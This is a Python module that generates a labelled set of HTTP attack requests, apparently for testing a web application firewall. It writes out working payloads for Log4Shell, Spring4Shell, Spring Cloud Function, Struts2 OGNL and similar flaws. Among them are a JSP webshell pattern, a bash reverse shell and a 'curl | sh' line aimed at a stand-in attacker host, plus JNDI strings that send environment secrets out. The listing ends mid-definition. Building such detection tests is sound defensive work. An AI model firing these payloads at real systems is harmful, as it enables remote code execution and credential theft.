# ruff: noqa: S608
"""Blind set "eightyfifth": the exploits of well-known, published web vulnerabilities, as mass scanners and
attackers fire them at every site whether or not it runs the vulnerable product, adapted to this product.

The angle: each exploit keeps its own placement (the header, the parameter name, the path, the body type it
rides on). When the exploit's path *is* the exploit (PHPUnit's eval-stdin.php, ThinkPHP's index.php?s=, a
router's /cgi-bin/ script, Confluence's OGNL in the URI, Apache's /cgi-bin/.%2e/ traversal), the request goes
to that path on this host; when it rides a parameter, a header or a body, it goes to our own routes
(/api/users, /api/users/42, /admin/users/search with its csrf_token, /oauth/token, /me/settings, /slack/events
with a made-up signature). Each exploit is sent 3 to 6 times: the original request, then its known variants and
obfuscations.

Families (category) and sub-families (sub = the vulnerability, kebab-case):
- java: Log4Shell (CVE-2021-44228, its bypasses and exfiltration forms, and as sent to VMware Horizon, UniFi,
  vCenter, Solr, MobileIron), Spring4Shell and its 2010 ancestor, Spring Cloud Function routing-expression,
  Spring Cloud Gateway, Spring Data Commons, Spring Boot actuator and whitelabel error page, Struts2 (S2-001,
  S2-013 devMode, S2-016 redirect:/action:, S2-020, S2-032 method:, S2-045 Content-Type, S2-046 filename, S2-057
  namespace, S2-061 id, CVE-2023-50164 upload), Confluence (CVE-2022-26134 URI OGNL, CVE-2021-26084,
  CVE-2023-22527, CVE-2023-22515), Jackson and Fastjson polymorphic typing, Commons Text (Text4Shell),
  WebLogic (wls-wsat, _async, console), JBoss invoker and jmx-console, Solr (Velocity, DataImportHandler,
  CVE-2017-12629), OFBiz, Druid, GeoServer, Nexus, Liferay, Unomi, Shiro rememberMe, JSF ViewState, Tomcat PUT.
- php: PHPUnit eval-stdin, ThinkPHP (invokefunction, __construct filter, 2.x /e, lang + pearcmd), pearcmd,
  Drupalgeddon 2, Drupal RESTWS, vBulletin widget templates, Laravel Ignition, phpMyAdmin setup and preg /e,
  PHP-CGI argument injection (2012 and the 2024 soft hyphen), the PHP 8.1.0-dev backdoor, Craft CMS, WordPress
  File Manager / Bricks / GiveWP, PHPMailer, Joomla session object injection, Magento template directives.
- sqli: WordPress plugins (Paid Memberships Pro, WP Fastest Cache, WP Statistics, WP Google Maps, WP_Query
  tax_query, Ultimate Member, LearnPress), Joomla com_fields and com_contenthistory, Drupal expandArguments,
  MOVEit Transfer, Magento shoplift, vBulletin, Zabbix jsrpc, FortiWeb Fabric Connector.
- xss: Citrix ADC /oauth/idp/logout, Jira Wallboard, Grafana snapshot (AngularJS), Zimbra, Tomcat examples,
  WordPress search, reflected probes, stored profile fields.
- ssti: Jinja2, Twig, Freemarker, Velocity, Smarty, ERB, Thymeleaf, Handlebars, Tornado, VMware Workspace ONE,
  Jira ContactAdministrators.
- generic: SSRF to cloud metadata (AWS, GCP, Azure, others), Redis and Memcached through gopher:// and dict://,
  mod_proxy unix: SSRF, Jira makeRequest, WebLogic UDDI, GitLab CI lint, WordPress pingback, Exchange
  ProxyShell and ProxyLogon, a proxy request for the metadata address, XXE (external and parameter entities,
  XInclude, SVG upload, SOAP, Zimbra Autodiscover, Magento CosmicSting), Node.js prototype pollution (query, JSON,
  express-fileupload, Kibana Timelion), node-serialize, FortiOS auth bypass, Next.js middleware bypass, Nacos,
  AEM dispatcher bypass, Joomla config disclosure.
- rce: Shellshock (and CVE-2014-6278), routers' and appliances' diagnostic forms (D-Link, Linksys, Netgear,
  DrayTek, Zyxel, Huawei, GPON, TP-Link, Realtek, Hikvision, AVTECH, Tenda, JAWS), ping forms on our admin panel,
  Jenkins script console and checkScript, GitLab ExifTool, Citrix newbm.pl, F5 iControl REST bash and TMUI,
  Ivanti Connect Secure, Palo Alto GlobalProtect, Cisco IOS XE, Apache CGI (CVE-2021-41773/42013),
  ImageMagick, Ghostscript, Elasticsearch Groovy and MVEL, SaltStack, Cacti, Bitbucket, Webmin, Spark doAs,
  APISIX.
- lfi: Apache path traversal, Grafana plugins, Rails Accept header, Spring Cloud Config, WordPress plugins
  (Revslider, Mail Masta, Site Editor, Duplicator), Pulse Secure, FortiOS fgt_lang, Citrix, F5 fileRead, Jira and
  Confluence WEB-INF, Cisco ASA, ColdFusion, phpMyAdmin, Confluence Widget Connector, Openfire, Tomcat ..;/,
  GitLab uploads, Jenkins CLI @file, CrushFTP, Solr stream.url.
- rfi: WordPress plugins (Mail Masta, Gwolle, WP with Spritz), PHP-CGI auto_prepend_file, TimThumb, include
  parameters.

Placements: query, form, json, xml, cookie, header:<Name>, path, param-name, multipart-field,
multipart-filename, raw-body. `payload` is the injected part as the exploit carries it. A few bodies (Java
serialized streams, DjVu) hold bytes above 0x7f in the original; here they are the same characters sent as
UTF-8 (the replayer encodes bodies as UTF-8), their ASCII parts (class names, commands) unchanged.

The benign half is what the same routes receive from real users and clients: security-team chat and bios about
patching Log4j, Struts or Confluence, changelogs, ticket titles ("upgrade Struts to 2.5.33"), searches,
settings, OAuth token requests, Slack commands and interactions, and the headers of real clients.

Authorship and independence: written from general knowledge of the public advisories and write-ups and from the
brief alone (no exploit database, payload list, ruleset, rule regression test or other blind set was read);
measured once on unchanged code, payloads not changed after the measurement; deterministic (no clock, no
unseeded randomness).
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import print_records

NAME = "eightyfifth"

Req = dict[str, Any]
Item = tuple[str, str, Req]   # (placement, payload, request)

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
CHROME_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/126.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.5 Safari/605.1.15")
EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.67")
IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.5 Mobile/15E148 Safari/604.1")
OLD_CHROME = ("Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/78.0.3904.108 Safari/537.36")
# what scanners and bots send as User-Agent
SCANNER_UAS = [CHROME, "python-requests/2.31.0", FIREFOX, "Go-http-client/1.1", OLD_CHROME, "curl/8.5.0",
               "Mozilla/5.0 zgrab/0.x", SAFARI,
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "python-httpx/0.27.0", EDGE, "Hello, world"]
CSRF = "Xq3v9LmT0aZ1uF7cW2pR8sYh"
OOB = "c8k2tq1vq3.oast.attacker.example"   # the attacker's out-of-band callback host
ATK = "203.0.113.66"


# --- request builders -------------------------------------------------------------------------------------

def get(uri: str, headers: dict[str, str] | None = None, method: str = "GET") -> Req:
    return {"method": method, "uri": uri, "body": "", "headers": {"Accept": "*/*", **(headers or {})}}


def post(uri: str, body: str, ctype: str | None, headers: dict[str, str] | None = None,
         method: str = "POST") -> Req:
    h = {"Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    return {"method": method, "uri": uri, "body": body, "headers": {**h, **(headers or {})}}


def form_raw(uri: str, body: str, headers: dict[str, str] | None = None, method: str = "POST") -> Req:
    return post(uri, body, "application/x-www-form-urlencoded", headers, method)


def form(uri: str, pairs: list[tuple[str, str]], headers: dict[str, str] | None = None) -> Req:
    return form_raw(uri, urllib.parse.urlencode(pairs), headers)


def jpost(uri: str, doc: Any, headers: dict[str, str] | None = None, method: str = "POST") -> Req:
    return post(uri, json.dumps(doc, ensure_ascii=False), "application/json", headers, method)


def jraw(uri: str, body: str, headers: dict[str, str] | None = None, method: str = "POST") -> Req:
    return post(uri, body, "application/json", headers, method)


def xpost(uri: str, body: str, ctype: str = "application/xml", headers: dict[str, str] | None = None,
          method: str = "POST") -> Req:
    return post(uri, body, ctype, headers, method)


BOUNDARY = "----WebKitFormBoundaryq7Zx3RkP0aLmB9cT"


def mpart(uri: str, parts: list[tuple[str, str | None, str | None, str]],
          headers: dict[str, str] | None = None) -> Req:
    """A multipart/form-data body: parts of (name, filename or None, content type or None, content)."""
    chunks = []
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        chunks.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n"
                      + (f"Content-Type: {ctype}\r\n" if ctype else "") + f"\r\n{content}\r\n")
    return post(uri, "".join(chunks) + f"--{BOUNDARY}--\r\n", f"multipart/form-data; boundary={BOUNDARY}",
                headers)


def enc(s: str) -> str:
    return urllib.parse.quote(s, safe="")


def q(name: str, value: str, path: str = "/api/users", more: list[tuple[str, str]] | None = None,
      headers: dict[str, str] | None = None) -> Req:
    """The payload as one query parameter of a GET on our routes."""
    pairs = [(name, value)] + (more if more is not None else [("page", "1")])
    return get(_query(path, pairs), headers)


def adm(name: str, value: str, more: list[tuple[str, str]] | None = None) -> Req:
    """The payload as a field of the admin panel's search form (with its csrf_token)."""
    return form("/admin/users/search", [("csrf_token", CSRF), (name, value), *(more or [])])


def js(field: str, value: Any, path: str = "/api/users", method: str = "POST") -> Req:
    """The payload as one field of a JSON user record."""
    return jpost(path, {"name": "Dana Whitfield", "email": "dana.whitfield@example.org", field: value},
                 method=method)


def me(field: str, value: Any) -> Req:
    return jpost("/me/settings", {"timezone": "Europe/Berlin", "locale": "en-GB", field: value},
                 method="PATCH")


def ck(cookie: str, path: str = "/api/users/42") -> Req:
    return get(path, {"Cookie": "session=8f2c1e9a7b3d4c5e6f708192a3b4c5d6; " + cookie})


def hd(name: str, value: str, path: str = "/api/users", more: dict[str, str] | None = None) -> Req:
    return get(path, {name: value, **(more or {})})


def oauth(pairs: list[tuple[str, str]]) -> Req:
    return form("/oauth/token", pairs)


def slack(text: str) -> Req:
    """A Slack event callback carrying `text`, sent as an attacker sends it: with a made-up signature."""
    digest = hashlib.sha256(text.encode()).hexdigest()
    event = {"type": "message", "user": "U04QX7ZK2LM", "text": text, "ts": "1719000123.004500",
             "channel": "C05AB1CD2EF", "event_ts": "1719000123.004500"}
    body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
            "event": event, "type": "event_callback", "event_id": "Ev" + digest[:9].upper(),
            "event_time": 1719000123}
    return post("/slack/events", json.dumps(body, ensure_ascii=False), "application/json",
                {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                 "X-Slack-Request-Timestamp": "1719000123", "X-Slack-Signature": "v0=" + digest})


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def blob(seed: str, n: int) -> str:
    """n characters of deterministic base64 (an encrypted or serialized blob an exploit tool sends)."""
    out = b""
    h = seed.encode()
    while len(out) < n:
        h = hashlib.sha256(h).digest()
        out += h
    return base64.b64encode(out).decode()[:n]


# --- the exploits -----------------------------------------------------------------------------------------

EXPLOITS: list[tuple[str, str, list[Item]]] = []


def X(category: str, sub: str, *items: Item) -> None:
    assert 3 <= len(items) <= 6, (sub, len(items))
    EXPLOITS.append((category, sub, list(items)))


# ===== Java ================================================================================================

X("java", "log4shell",
  ("header:User-Agent", f"${{jndi:ldap://{ATK}:1389/Exploit}}",
   hd("User-Agent", f"${{jndi:ldap://{ATK}:1389/Exploit}}")),
  ("header:X-Api-Version", f"${{jndi:ldap://{OOB}/a}}",
   hd("X-Api-Version", f"${{jndi:ldap://{OOB}/a}}", "/api/users/42")),
  ("header:Referer", f"${{jndi:rmi://{ATK}:1099/Object}}",
   hd("Referer", f"${{jndi:rmi://{ATK}:1099/Object}}", "/admin/")),
  ("header:X-Forwarded-For", f"${{jndi:ldap://{OOB}:389/xff}}",
   hd("X-Forwarded-For", f"${{jndi:ldap://{OOB}:389/xff}}", "/oauth/token")),
  ("query", f"${{jndi:ldap://{OOB}/q}}", q("q", f"${{jndi:ldap://{OOB}/q}}")),
  ("json", f"${{jndi:ldap://{OOB}/u}}", js("name", f"${{jndi:ldap://{OOB}/u}}")))

X("java", "log4shell-obfuscated",
  ("header:User-Agent", f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{OOB}/o1}}",
   hd("User-Agent", f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{OOB}/o1}}")),
  ("header:X-Api-Version", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{OOB}/o2}}",
   hd("X-Api-Version", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{OOB}/o2}}")),
  ("cookie", f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{OOB}/o3}}",
   ck("JSESSIONID=" + enc(
       f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{OOB}/o3}}"))),
  ("header:X-Forwarded-Host", f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{OOB}/o4}}",
   hd("X-Forwarded-Host", f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{OOB}/o4}}", "/me/settings")),
  ("query", f"${{jndi:ldap://{OOB}/o5}} (double URL-encoded)",
   get("/api/users?search=" + enc(enc(f"${{jndi:ldap://{OOB}/o5}}")))),
  ("form", f"${{${{upper:j}}${{upper:n}}${{lower:d}}${{lower:i}}:${{lower:l}}dap://{OOB}/o6}}",
   oauth([("grant_type", "password"), ("username",
          f"${{${{upper:j}}${{upper:n}}${{lower:d}}${{lower:i}}:${{lower:l}}dap://{OOB}/o6}}")])))

X("java", "log4shell-cve-2021-45046",
  ("header:User-Agent", f"${{jndi:ldap://127.0.0.1#{OOB}:1389/a}}",
   hd("User-Agent", f"${{jndi:ldap://127.0.0.1#{OOB}:1389/a}}")),
  ("header:X-Api-Version", f"${{jndi:ldap://127.0.0.1#${{hostName}}.{OOB}/b}}",
   hd("X-Api-Version", f"${{jndi:ldap://127.0.0.1#${{hostName}}.{OOB}/b}}")),
  ("json", f"${{${{::-j}}ndi:ldap://localhost#{OOB}/c}}", js("email", f"${{${{::-j}}ndi:ldap://localhost#{OOB}/c}}")),
  ("query", f"${{jndi:ldap://127.1.1.1#.{OOB}:1389/d}}", q("q", f"${{jndi:ldap://127.1.1.1#.{OOB}:1389/d}}")))

X("java", "log4shell-exfiltration",
  ("header:User-Agent", f"${{jndi:ldap://${{env:AWS_SECRET_ACCESS_KEY}}.{OOB}/a}}",
   hd("User-Agent", f"${{jndi:ldap://${{env:AWS_SECRET_ACCESS_KEY}}.{OOB}/a}}")),
  ("header:X-Api-Version", f"${{jndi:dns://${{sys:java.version}}.${{env:USER}}.{OOB}}}",
   hd("X-Api-Version", f"${{jndi:dns://${{sys:java.version}}.${{env:USER}}.{OOB}}}")),
  ("header:Referer", f"${{jndi:ldap://{OOB}/${{java:os}}}}",
   hd("Referer", f"${{jndi:ldap://{OOB}/${{java:os}}}}", "/api/users/42")),
  ("cookie", f"${{jndi:ldap://${{env:HOSTNAME:-x}}.${{date:yyyyMMdd}}.{OOB}/c}}",
   ck("lang=" + enc(f"${{jndi:ldap://${{env:HOSTNAME:-x}}.${{date:yyyyMMdd}}.{OOB}/c}}"))),
  ("form", f"${{jndi:ldap://{OOB}/${{env:DB_PASSWORD}}/${{main:0}}}}",
   adm("q", f"${{jndi:ldap://{OOB}/${{env:DB_PASSWORD}}/${{main:0}}}}")))

X("java", "log4shell-vmware-horizon",
  ("header:Accept-Language", f"${{jndi:ldap://{OOB}/horizon}}",
   hd("Accept-Language", f"${{jndi:ldap://{OOB}/horizon}}", "/portal/info.jsp")),
  ("header:Accept-Language", f"${{jndi:${{lower:l}}${{lower:d}}ap://{OOB}/h2}}",
   hd("Accept-Language", f"${{jndi:${{lower:l}}${{lower:d}}ap://{OOB}/h2}}", "/portal/info.jsp")),
  ("header:Accept-Language", f"${{jndi:ldap://{OOB}/h3}}",
   hd("Accept-Language", f"${{jndi:ldap://{OOB}/h3}}", "/api/users")),
  ("header:Accept-Language", f"${{${{::-j}}ndi:ldap://{OOB}/h4}}",
   hd("Accept-Language", f"${{${{::-j}}ndi:ldap://{OOB}/h4}}", "/me/settings")))

X("java", "log4shell-unifi",
  ("json", f"${{jndi:ldap://{OOB}/unifi}}",
   jpost("/api/login", {"username": "ubnt", "remember": f"${{jndi:ldap://{OOB}/unifi}}", "strict": True})),
  ("json", f"${{jndi:ldap://{ATK}:1389/o=tomcat}}",
   jpost("/api/login", {"username": "admin", "remember": f"${{jndi:ldap://{ATK}:1389/o=tomcat}}",
                        "strict": True})),
  ("json", f"${{${{lower:j}}ndi:ldap://{OOB}/u3}}", js("remember", f"${{${{lower:j}}ndi:ldap://{OOB}/u3}}")),
  ("json", f"${{jndi:rmi://{OOB}/u4}}",
   jpost("/api/users/42", {"remember": f"${{jndi:rmi://{OOB}/u4}}", "strict": True}, method="PUT")))

X("java", "log4shell-vcenter",
  ("header:X-Forwarded-For", f"${{jndi:ldap://{OOB}/vc}}",
   hd("X-Forwarded-For", f"${{jndi:ldap://{OOB}/vc}}", "/websso/SAML2/SSO/vsphere.local?SAMLRequest=")),
  ("header:X-Forwarded-For", f"${{jndi:ldap://{OOB}/vc2}}",
   hd("X-Forwarded-For", f"${{jndi:ldap://{OOB}/vc2}}", "/api/users?page=2")),
  ("header:X-Forwarded-For", f"${{${{::-j}}ndi:ldap://{OOB}/vc3}}",
   hd("X-Forwarded-For", f"${{${{::-j}}ndi:ldap://{OOB}/vc3}}", "/admin/users/search")))

X("java", "log4shell-solr",
  ("query", f"${{jndi:ldap://{OOB}/solr}}",
   get("/solr/admin/cores?action=" + enc(f"${{jndi:ldap://{OOB}/solr}}"))),
  ("query", f"${{jndi:ldap://{OOB}/solr2}}",
   get("/solr/admin/collections?action=" + enc(f"${{jndi:ldap://{OOB}/solr2}}") + "&wt=json")),
  ("query", f"${{jndi:ldap://{OOB}/solr3}}",
   get("/api/users?action=" + enc(f"${{jndi:ldap://{OOB}/solr3}}") + "&wt=json")))

X("java", "log4shell-mobileiron",
  ("form", f"${{jndi:ldap://{OOB}/mi}}",
   form("/mifs/j_spring_security_check", [("j_username", f"${{jndi:ldap://{OOB}/mi}}"),
                                           ("logincontext", "employee")])),
  ("form", f"${{jndi:ldap://{OOB}/mi2}}",
   form("/oauth/token", [("grant_type", "password"), ("j_username", f"${{jndi:ldap://{OOB}/mi2}}")])),
  ("form", f"${{jndi:${{lower:l}}dap://{OOB}/mi3}}", adm("j_username", f"${{jndi:${{lower:l}}dap://{OOB}/mi3}}")))

S4S_PATTERN = ("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime()"
               ".exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; "
               "while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i")
S4S = "class.module.classLoader.resources.context.parent.pipeline.first."
S4S_FIELDS = [(S4S + "pattern", S4S_PATTERN), (S4S + "suffix", ".jsp"), (S4S + "directory", "webapps/ROOT"),
              (S4S + "prefix", "tomcatwar"), (S4S + "fileDateFormat", "")]
S4S_HDRS = {"suffix": "%>//", "c1": "Runtime", "c2": "<%", "DNT": "1"}
X("java", "spring4shell",
  ("param-name", S4S + "pattern", form("/api/users", S4S_FIELDS, S4S_HDRS)),
  ("param-name", S4S + "pattern", get(_query("/admin/users/search", S4S_FIELDS), S4S_HDRS)),
  ("param-name", S4S + "fileDateFormat", form("/api/users/42", [(S4S + "fileDateFormat", "_")])),
  ("param-name", "class%2Emodule%2EclassLoader%2Eresources... (dots encoded)",
   form_raw("/admin/users/search", "csrf_token=" + CSRF + "&" + "&".join(
       k.replace(".", "%2E") + "=" + enc(v) for k, v in S4S_FIELDS), S4S_HDRS)),
  ("param-name", "class.module.classLoader.URLs[0]=0", get("/api/users?class.module.classLoader.URLs%5B0%5D=0")),
  ("multipart-field", S4S + "pattern",
   mpart("/me/settings", [(k, None, None, v) for k, v in S4S_FIELDS], S4S_HDRS)))

X("java", "spring-cve-2010-1622",
  ("param-name", f"class.classLoader.URLs[0]=jar:http://{ATK}/spring-exploit.jar!/",
   get("/admin/users/search?class.classLoader.URLs%5B0%5D=" + enc(f"jar:http://{ATK}/spring-exploit.jar!/"))),
  ("param-name", f"class.classLoader.URLs[0]=jar:http://{ATK}/spring-exploit.jar!/",
   form("/api/users", [("name", "x"), ("class.classLoader.URLs[0]", f"jar:http://{ATK}/spring-exploit.jar!/")])),
  ("param-name", "class.classLoader.resources.dirContext.docBase=/",
   adm("class.classLoader.resources.dirContext.docBase", "/")))

SCF_HDR = "spring.cloud.function.routing-expression"
X("java", "spring-cloud-function-spel",
  (f"header:{SCF_HDR}", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
   post("/functionRouter", "test", "text/plain",
        {SCF_HDR: 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'})),
  (f"header:{SCF_HDR}", 'T(java.lang.Runtime).getRuntime().exec("id")',
   post("/api/users", "test", "text/plain", {SCF_HDR: 'T(java.lang.Runtime).getRuntime().exec("id")'})),
  (f"header:{SCF_HDR}", f"new java.lang.ProcessBuilder({{'/bin/sh','-c','curl http://{ATK}/x|sh'}}).start()",
   post("/functionRouter", "x", "text/plain",
        {SCF_HDR: f"new java.lang.ProcessBuilder({{'/bin/sh','-c','curl http://{ATK}/x|sh'}}).start()"})),
  (f"header:{SCF_HDR}",
   f'T(java.lang.Runtime).getRuntime().exec(new String[]{{"bash","-c","bash -i >& /dev/tcp/{ATK}/4444 0>&1"}})',
   post("/functionRouter", "hello", "text/plain", {SCF_HDR: "T(java.lang.Runtime).getRuntime().exec(new String[]{"
        f'"bash","-c","bash -i >& /dev/tcp/{ATK}/4444 0>&1"}})'})),
  (f"header:{SCF_HDR}", f'T(java.net.InetAddress).getByName("scf.{OOB}")',
   post("/api/users/42", "{}", "application/json", {SCF_HDR: f'T(java.net.InetAddress).getByName("scf.{OOB}")'})))

SCG_VALUE = ("#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
             ".exec(new String[]{\"id\"}).getInputStream()))}")


def scg_route(value: str) -> dict[str, Any]:
    return {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": value}}],
            "uri": "http://example.com"}


X("java", "spring-cloud-gateway",
  ("json", SCG_VALUE, jpost("/actuator/gateway/routes/hacktest", scg_route(SCG_VALUE))),
  ("json", SCG_VALUE, jpost("/api/users", scg_route(SCG_VALUE))),
  ("json", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/scg')}",
   jpost("/actuator/gateway/routes/x1", scg_route("#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/scg')}"))),
  ("json", SCG_VALUE, jpost("/admin/actuator/gateway/routes/hacktest", scg_route(SCG_VALUE))))

SDC = 'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")]'
X("java", "spring-data-commons-spel",
  ("param-name", SDC, form("/users", [(SDC, "x"), ("repeatedPassword", "x")])),
  ("param-name", SDC, adm(SDC, "x")),
  ("param-name", "username[#this.getClass().forName(\"javax.script.ScriptEngineManager\").newInstance()"
                 ".getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")]",
   form("/api/users", [("username[#this.getClass().forName(\"javax.script.ScriptEngineManager\").newInstance()"
                        ".getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")]", "x")])),
  ("param-name", SDC, get(_query("/api/users", [(SDC, "1")]))))

H2_SQL = ("CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s "
          "= new',' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s.hasNext()) "
          "{return s.next();} throw new IllegalArgumentException(); }');CALL EXEC('id');")
X("java", "spring-actuator-env-rce",
  ("json", H2_SQL, jpost("/actuator/env", {"name": "spring.datasource.hikari.connection-test-query", "value": H2_SQL})),
  ("form", H2_SQL, form("/env", [("spring.datasource.hikari.connection-test-query", H2_SQL)])),
  ("form", f"eureka.client.serviceUrl.defaultZone=http://{ATK}/xstream",
   form("/actuator/env", [("eureka.client.serviceUrl.defaultZone", f"http://{ATK}/xstream")])),
  ("path", f"reloadByURL/http:!/!/{ATK}!/logback.xml",
   get("/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/"
       f"reloadByURL/http:!/!/{ATK}!/logback.xml")),
  ("json", H2_SQL, jpost("/api/users", {"name": "spring.datasource.hikari.connection-test-query", "value": H2_SQL})))

X("java", "spring-boot-whitelabel-spel",
  ("query", "${new java.lang.ProcessBuilder(new String[]{\"id\"}).start()}",
   q("message", "${new java.lang.ProcessBuilder(new String[]{\"id\"}).start()}", "/error")),
  ("query", "${T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{0x69,0x64}))}",
   q("id", "${T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{0x69,0x64}))}")),
  ("query", "${T(java.lang.System).getenv()}", q("q", "${T(java.lang.System).getenv()}", "/api/users/42")))

OGNL_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
            "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
            ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
            "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
            "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
            "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
OGNL_045_PROBE = ("%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
                  "(#_memberAccess=#dm).(#o=@org.apache.struts2.ServletActionContext@getResponse().getWriter())."
                  "(#o.println(88888888-23333+1222)).(#o.close())}")
OGNL_045_HDR = ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',"
                "233*233)}.multipart/form-data")
X("java", "struts2-s2-045",
  ("header:Content-Type", OGNL_045, post("/admin/users/search", "", OGNL_045)),
  ("header:Content-Type", OGNL_045_HDR, get("/index.action", {"Content-Type": OGNL_045_HDR})),
  ("header:Content-Type", OGNL_045_PROBE, post("/api/users", "", OGNL_045_PROBE)),
  ("header:Content-Type", OGNL_045.replace("%{", "${", 1), post("/api/users/42", "", OGNL_045.replace("%{", "${", 1))),
  ("header:Content-Type", OGNL_045_PROBE, get("/login.action", {"Content-Type": OGNL_045_PROBE})))

S046 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)."
        "(#o=@org.apache.struts2.ServletActionContext@getResponse().getWriter()).(#o.println('s2046'))."
        "(#o.close())}\x00b")
X("java", "struts2-s2-046",
  ("multipart-filename", S046, mpart("/admin/users/search", [("csrf_token", None, None, CSRF),
                                                             ("upload", S046, "text/plain", "x")])),
  ("multipart-filename", OGNL_045 + "\x00b", mpart("/upload.action", [("upload", OGNL_045 + "\x00b",
                                                                       "text/plain", "x")])),
  ("multipart-filename", S046, mpart("/me/settings", [("avatar", S046, "image/png", "\x89PNG")])))

S057 = ("${(#_memberAccess[\"allowStaticMethodAccess\"]=true,#a=@java.lang.Runtime@getRuntime().exec('id')"
        ".getInputStream(),#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),"
        "#d=new char[51020],#c.read(#d),#sbtest=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),"
        "#sbtest.println(#d),#sbtest.close())}")
S057_2516 = ("${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)."
             "(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance("
             "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())."
             "(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime()"
             ".exec('id')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}")
X("java", "struts2-s2-057",
  ("path", S057, get("/" + enc(S057) + "/actionChain1.action")),
  ("path", "${233*233}", get("/%24%7B233*233%7D/actionChain1.action")),
  ("path", S057_2516, get("/" + enc(S057_2516) + "/help.action")),
  ("path", S057, get("/api/" + enc(S057) + "/index.action")))

S032 = ("method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext"
